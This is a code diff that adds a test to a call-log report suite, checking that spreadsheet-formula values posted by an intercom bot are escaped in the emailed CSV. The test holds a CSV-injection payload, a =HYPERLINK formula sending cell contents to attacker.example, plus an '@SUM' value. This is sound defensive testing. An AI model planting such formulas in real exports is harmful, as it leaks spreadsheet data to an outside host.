@@ -4,6 +4,7 @@ import { parse } from 'csv-parse/sync';
 import { and, asc, eq, inArray, sql } from 'drizzle-orm';
 import { callLogs, condos, devices, outboxes, residents } from '../../db/schema';
 import { generateCallLogs } from '../../seed/demo-call-logs';
+import { demoBotToken, demoMac } from '../../seed/demo-devices';
 import { DEMO, startTestApp, type TestApp } from '../../test/harness';
 import { REPORT_MESSAGE } from './routes';
 
@@ -202,6 +203,39 @@ describe('Call logs', () => {
       .from(outboxes)
       .where(eq(outboxes.subject, mail.subject));
     assert.equal(outbox?.condoId, condoIds['marina-bay']);
+  });
+
+  test('the mailed CSV holds no formula: a bot’s =HYPERLINK reason goes out as text behind a quote', async () => {
+    const injected = '=HYPERLINK("http://attacker.example/?x="&A2,"Details")';
+    const posted = await t.app.inject({
+      method: 'POST',
+      url: `${MB}/api/v1/call_logs`,
+      headers: { authorization: `Token ${demoBotToken('marina-bay', 'vizitin')}` },
+      payload: {
+        call_log: {
+          status: 'forwarded',
+          call_type: 'ivr',
+          unit_number: '@SUM(1+1)',
+          mac_address: demoMac('marina-bay', 'Tower A Entrance'),
+          forwarded_call: true,
+          forwarded_to: 'secondary',
+          forwarded_reason: injected,
+        },
+      },
+    });
+    assert.equal(posted.statusCode, 201, posted.body);
+    const now = t.clock.now().getTime();
+    const range = `from_time=${new Date(now - 3600_000).toISOString()}&to_time=${new Date(now + 60_000).toISOString()}`;
+    const response = await get('/generate_report', range);
+    assert.equal(response.statusCode, 200, response.body);
+    await t.app.jobs.drain();
+    const mail = t.mail.last(DEMO.manager);
+    const csvText = mail.text.slice(mail.text.indexOf('Resident name'));
+    const records = parse(csvText, { columns: true, skip_empty_lines: true }) as Record<string, string>[];
+    const mine = records.find((record) => record.Reason?.includes('attacker.example'));
+    assert.equal(mine?.Reason, `'${injected}`);
+    assert.equal(mine?.['Unit Number'], "'@SUM(1+1)");
+    assert.equal(mine?.Status, 'forwarded');
   });
 
   test('the demo generator: same inputs, same calls; consistent with the condo’s residents and devices', async () => {
